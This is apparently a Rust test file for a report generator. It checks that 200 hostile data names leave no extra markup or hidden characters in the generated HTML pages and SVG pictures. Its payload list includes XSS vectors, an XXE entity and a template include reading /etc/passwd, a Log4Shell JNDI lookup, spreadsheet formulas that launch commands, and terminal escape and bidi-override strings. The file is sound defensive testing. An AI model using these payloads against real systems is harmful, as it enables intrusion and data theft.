//! Names that come from data and want to be more than names do nothing on a page or in a picture.

#[path = "made/results.rs"]
mod made;

use dtao_report::{Report, Wanted};

/// Makes a result with these names in a folder.
type Make = fn(&std::path::Path, &[String]);

/// Texts that a browser, an SVG reader, a spreadsheet or a terminal might obey.
fn payloads() -> Vec<String> {
    let bodies = [
        "<script>window.owned=1</script>",
        "<img src=x onerror=window.owned=1>",
        "<svg onload=window.owned=1>",
        "<svg><script>window.owned=1</script></svg>",
        "</script><script>window.owned=1</script>",
        "</title><script>window.owned=1</script>",
        "</style><script>window.owned=1</script>",
        "</text><script>window.owned=1</script>",
        "</desc></svg><img src=x onerror=window.owned=1>",
        "<!--",
        "--><script>window.owned=1</script>",
        "]]><script>window.owned=1</script>",
        "<iframe src=javascript:window.parent.owned=1>",
        "<a href=javascript:window.owned=1>x</a>",
        "<base href=http://example.invalid/>",
        "<meta http-equiv=refresh content=0;url=http://example.invalid/>",
        "<link rel=stylesheet href=http://example.invalid/x.css>",
        "<style>@import 'http://example.invalid/x.css';</style>",
        "<foreignObject><body onload=window.owned=1></foreignObject>",
        "<use href=http://example.invalid/x.svg#x>",
        "<animate onbegin=window.owned=1 attributeName=x>",
        "\" onmouseover=\"window.owned=1",
        "' onfocus='window.owned=1' autofocus='",
        "\"><img src=x onerror=window.owned=1>",
        "`${window.owned=1}`",
        "{{ 7*7 }}{% include \"/etc/passwd\" %}",
        "${jndi:ldap://example.invalid/x}",
        "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
        "&lt;script&gt;window.owned=1&lt;/script&gt;",
        "&#60;script&#62;window.owned=1&#60;/script&#62;",
        "%3Cscript%3Ewindow.owned=1%3C/script%3E",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "=HYPERLINK(\"http://example.invalid\",\"x\")",
        "=cmd|'/c calc'!A0",
        "+1+cmd|'/c calc'!A0",
        "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\u{1b}[2J\u{1b}[31mred",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]8;;http://example.invalid\u{1b}\\x\u{1b}]8;;\u{1b}\\",
        "\u{9b}2J",
        "a\u{202e}lmth.exe",
        "a\u{2066}b\u{2069}c",
        "zero\u{200b}width\u{feff}",
        "two\nlines",
        "carriage\rreturn",
        "nul\0byte",
        "tab\tvertical\u{b}form\u{c}",
        "line\u{2028}paragraph\u{2029}",
        "\u{e0041}\u{e0042}tags",
    ];
    let wrapped = bodies
        .iter()
        .flat_map(|body| [(*body).to_owned(), format!("x{body}"), format!("{body} y"), format!("'{body}\"")]);
    wrapped.collect()
}

/// Characters that are markup, or that hide.
fn told(text: &str) -> (usize, usize) {
    let hidden = |c: char| c != '\n' && dtao_files::input::hidden::is_hidden(c);
    (text.matches('<').count(), text.chars().filter(|&c| hidden(c)).count())
}

fn report(make: impl Fn(&std::path::Path)) -> (String, Vec<String>) {
    let folder = tempfile::tempdir().expect("a folder");
    make(folder.path());
    let report = Report::read(folder.path(), &Wanted::default()).unwrap_or_else(|error| panic!("{error}"));
    (report.html(), report.pictures().into_iter().map(|picture| picture.svg).collect())
}

#[test]
fn two_hundred_names_add_no_markup_to_any_page_or_picture() {
    let hostile = payloads();
    assert_eq!(hostile.len(), 200);
    // As many harmless names, in the same order and with room for the same line breaks.
    let harmless: Vec<String> = (0..200).map(|at| format!("{at:03}")).collect();
    let kinds: [(&str, Make); 7] = [
        ("run", |folder, names| made::run(folder, 3, 40, 10, names, names)),
        ("sweep", |folder, names| made::sweep(folder, [&names[0], &names[1]], names, &names[2])),
        ("comparison", |folder, names| made::comparison(folder, names)),
        ("story", |folder, names| made::story(folder, names)),
        ("attack", |folder, names| made::attack(folder, names)),
        ("attack table", |folder, names| made::attack_table(folder, names)),
        ("fit", |folder, names| made::fit(folder, names)),
    ];
    for (kind, make) in kinds {
        for chunk in 0..4 {
            let part =
                |names: &[String]| -> Vec<String> { names.iter().skip(chunk).step_by(4).cloned().collect() };
            let (page, pictures) = report(|folder| make(folder, &part(&hostile)));
            let (plain, plain_pictures) = report(|folder| make(folder, &part(&harmless)));
            assert_eq!(
                told(&page),
                told(&plain),
                "{kind}, part {chunk}: the page has other markup, or hidden characters"
            );
            assert_eq!(pictures.len(), plain_pictures.len(), "{kind}");
            for picture in &pictures {
                assert_eq!(told(picture).1, 0, "{kind}, part {chunk}: hidden characters in a picture");
                assert!(!picture.contains("<script") && !picture.contains("<img"), "{kind}, part {chunk}");
            }
            for picture in pictures.iter().take(2) {
                resvg::usvg::Tree::from_str(picture, &resvg::usvg::Options::default())
                    .unwrap_or_else(|error| panic!("{kind}, part {chunk}: not well-formed: {error}"));
            }
        }
    }
}

#[test]
fn a_name_is_shown_with_its_characters_written_out() {
    let names: Vec<String> = ["<b>&\"'", "a\u{202e}b\nc"].map(str::to_owned).into();
    let (page, _) = report(|folder| made::run(folder, 3, 40, 10, &names, &names));
    assert!(page.contains("a\\u{202e}b\\u{a}c"), "hidden characters are written out");
    assert!(
        page.contains("&#60;b&#62;&#38;&#34;&#39;") || page.contains("&lt;b&gt;&amp;&quot;&#39;"),
        "markup is escaped"
    );
}
